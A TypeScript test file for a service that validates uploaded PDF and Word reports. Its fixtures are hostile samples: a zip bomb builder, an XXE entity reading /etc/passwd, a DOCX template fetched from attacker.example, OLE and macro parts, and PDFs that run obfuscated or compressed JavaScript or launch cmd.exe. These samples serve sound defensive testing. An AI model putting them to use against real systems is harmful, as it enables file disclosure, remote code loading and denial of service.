import { constants, deflateRawSync } from 'node:zlib'
import { strFromU8, strToU8, zipSync, zlibSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { checkDocument, reportFileName } from '@/lib/domain/documents'
import { pdf } from '../support/documents'

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
const BODY =
  '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
const rel = (type: string, target: string, external = false) =>
  `<Relationship Id="rId${type.length}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`
const rels = (...r: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${r.join('')}</Relationships>`
const docx = (parts: Record<string, string> = {}) =>
  zipSync(
    Object.fromEntries(
      Object.entries({ '[Content_Types].xml': TYPES, 'word/document.xml': BODY, ...parts }).map(([k, v]) => [
        k,
        strToU8(v),
      ]),
    ),
    { level: 6 },
  )

const ok = (type: string) => ({ ok: true, type })

describe('a Regulation 44 report file', () => {
  it('is a PDF or a Word document by its own bytes, whatever its name says', () => {
    expect(checkDocument(pdf(), 100_000)).toEqual(ok('application/pdf'))
    expect(
      checkDocument(
        docx({
          'word/_rels/document.xml.rels': rels(
            rel('styles', 'styles.xml'),
            rel('hyperlink', 'https://www.gov.uk/', true),
          ),
        }),
        100_000,
      ),
    ).toEqual(ok(DOCX))
  })

  it("is stored and served under a name Haven makes, never the uploader's", () => {
    expect(reportFileName('2026-11-14', 2, 'application/pdf')).toBe('reg44-report-2026-11-14-v2.pdf')
    expect(reportFileName('2026-11-14', 1, DOCX)).toBe('reg44-report-2026-11-14-v1.docx')
  })

  it('refuses other files, empty files and files over the limit, saying why', () => {
    expect(checkDocument(strToU8('<html><script>alert(1)</script></html>'), 1000)).toEqual({
      ok: false,
      problem: 'The report must be a PDF or a Word (DOCX) document',
    })
    expect(checkDocument(strToU8('MZ executable'), 1000)).toMatchObject({ ok: false })
    expect(checkDocument(new Uint8Array(), 1000)).toEqual({ ok: false, problem: 'The report file is empty' })
    expect(checkDocument(strToU8('%PDF-' + 'x'.repeat(3_000_000)), 2_000_000)).toEqual({
      ok: false,
      problem: 'The report file must be smaller than 2 MB',
    })
  })

  it('refuses a zip that only mentions a Word document, or holds something else', () => {
    const evil = zipSync({ 'evil.html': strToU8('<script>alert(1)</script><!-- word/document.xml -->') })
    expect(checkDocument(evil, 100_000)).toEqual({
      ok: false,
      problem: 'The report must be a PDF or a Word (DOCX) document: this file is a zip without a Word document in it',
    })
    expect(checkDocument(zipSync({ 'word/document.xml': strToU8(BODY) }), 100_000)).toMatchObject({ ok: false }) // no [Content_Types].xml
  })

  it('refuses a zip bomb (400 KB unpacking to 400 MiB) without unpacking it, whether it declares its size or lies', () => {
    const bomb = (declared: number) =>
      zipOf([
        { name: '[Content_Types].xml', method: 0, data: strToU8(TYPES), size: TYPES.length },
        { name: 'word/document.xml', method: 0, data: strToU8(BODY), size: BODY.length },
        { name: 'word/media/image1.png', method: 8, data: zerosDeflated(400), size: declared },
      ])
    expect(bomb(0).length).toBeLessThan(500_000)
    const problem =
      'The Word document unpacks to more than 50 MB or is packed unusually tightly (a "zip bomb"): save it again from Word, or as PDF'
    expect(checkDocument(bomb(400 * 1024 * 1024), 5_000_000)).toEqual({ ok: false, problem })
    // claiming 1 MB: unpacking stops there, and so much from so little is refused
    expect(checkDocument(bomb(1_000_000), 5_000_000)).toEqual({ ok: false, problem })
  })

  it('refuses a DOCX with an XML entity or DOCTYPE (XXE), in any part', () => {
    const xxe =
      '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="x"><w:body>&x;</w:body></w:document>'
    const problem =
      'The Word document contains an XML DOCTYPE or entity declaration, which Word never writes: save it again from Word, or as PDF'
    expect(checkDocument(docx({ 'word/document.xml': xxe }), 100_000)).toEqual({ ok: false, problem })
    expect(checkDocument(docx({ 'docProps/core.xml': '<!doctype lol [<!entity a "aaaa">]><x/>' }), 100_000)).toEqual({
      ok: false,
      problem,
    })
  })

  it('refuses a DOCX that fetches a template, frame or object from outside when opened; a hyperlink is fine', () => {
    const template = docx({
      'word/_rels/settings.xml.rels': rels(rel('attachedTemplate', 'http://attacker.example/t.dotm', true)),
    })
    expect(checkDocument(template, 100_000)).toEqual({
      ok: false,
      problem:
        'The Word document loads something from outside itself when opened (attachedTemplate): remove it, or save as PDF, and attach that',
    })
    const ole = docx({
      'word/_rels/document.xml.rels': `<Relationships><Relationship Id="a" TargetMode='External' Target="mhtml:http://x/!x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>`,
    })
    expect(checkDocument(ole, 100_000)).toMatchObject({ ok: false, problem: expect.stringContaining('(oleObject)') })
    expect(checkDocument(docx({ 'word/vbaProject.bin': 'x' }), 100_000)).toMatchObject({
      ok: false,
      problem: expect.stringContaining('macros'),
    })
  })

  it('refuses a PDF that runs JavaScript or a program, or carries files, however the name is spelt or hidden', () => {
    const script =
      'The PDF contains JavaScript, which would run when it is opened: save or print it to a new PDF and attach that'
    expect(checkDocument(pdf('/OpenAction 4 0 R', ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>']), 100_000)).toEqual({
      ok: false,
      problem: script,
    })
    expect(checkDocument(pdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'), 100_000)).toEqual({
      ok: false,
      problem: script,
    })
    expect(checkDocument(pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 100_000)).toMatchObject({
      ok: false,
      problem: expect.stringContaining('start a program'),
    })
    expect(checkDocument(pdf('/Names << /EmbeddedFiles 4 0 R >>', ['<< /Names [] >>']), 100_000)).toMatchObject({
      ok: false,
      problem: expect.stringContaining('other files inside'),
    })
    // inside a compressed object stream, where a byte scan of the file would not see it
    const hidden = zlibSync(strToU8('4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>'))
    const objStm = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n${strFromU8(hidden, true)}\nendstream` // bytes as one character each, as pdf() writes them back
    expect(checkDocument(pdf('/OpenAction 4 0 R', [objStm]), 100_000)).toEqual({ ok: false, problem: script })
    // an /OpenAction that only opens a page is fine
    expect(checkDocument(pdf('/OpenAction [3 0 R /Fit]'), 100_000)).toEqual(ok('application/pdf'))
  })

  it('refuses a file that only starts like a PDF', () => {
    const problem = 'The report is not a complete PDF: save or export it as PDF again and attach that'
    expect(checkDocument(strToU8('%PDF-1.7\n<html><script>alert(1)</script></html>'), 1000)).toEqual({
      ok: false,
      problem,
    })
    expect(checkDocument(strToU8('%PDF-1.7\nstartxref\n0\n%%EOF'), 1000)).toEqual({ ok: false, problem })
  })
})

/** Raw deflate of `mib` MiB of zeros, made quickly: one flushed MiB repeated, then an empty final block. */
function zerosDeflated(mib: number) {
  const one = deflateRawSync(new Uint8Array(1024 * 1024), { level: 9, finishFlush: constants.Z_SYNC_FLUSH })
  const out = new Uint8Array(one.length * mib + 2)
  for (let i = 0; i < mib; i++) out.set(one, i * one.length)
  out.set([0x03, 0x00], one.length * mib)
  return out
}

/** A minimal zip (PKWARE APPNOTE 4.3) with the sizes given, true or not. */
function zipOf(entries: { name: string; method: number; data: Uint8Array; size: number }[]) {
  const parts: Uint8Array[] = []
  const central: Uint8Array[] = []
  let offset = 0
  for (const e of entries) {
    const name = strToU8(e.name)
    const local = new DataView(new ArrayBuffer(30))
    local.setUint32(0, 0x04034b50, true)
    local.setUint16(8, e.method, true)
    local.setUint32(18, e.data.length, true)
    local.setUint32(22, e.size, true)
    local.setUint16(26, name.length, true)
    const dir = new DataView(new ArrayBuffer(46))
    dir.setUint32(0, 0x02014b50, true)
    dir.setUint16(10, e.method, true)
    dir.setUint32(20, e.data.length, true)
    dir.setUint32(24, e.size, true)
    dir.setUint16(28, name.length, true)
    dir.setUint32(42, offset, true)
    parts.push(new Uint8Array(local.buffer), name, e.data)
    central.push(new Uint8Array(dir.buffer), name)
    offset += 30 + name.length + e.data.length
  }
  const end = new DataView(new ArrayBuffer(22))
  end.setUint32(0, 0x06054b50, true)
  end.setUint16(8, entries.length, true)
  end.setUint16(10, entries.length, true)
  end.setUint32(
    12,
    central.reduce((n, c) => n + c.length, 0),
    true,
  )
  end.setUint32(16, offset, true)
  const all = [...parts, ...central, new Uint8Array(end.buffer)]
  const out = new Uint8Array(all.reduce((n, c) => n + c.length, 0))
  all.reduce((at, c) => (out.set(c, at), at + c.length), 0)
  return out
}
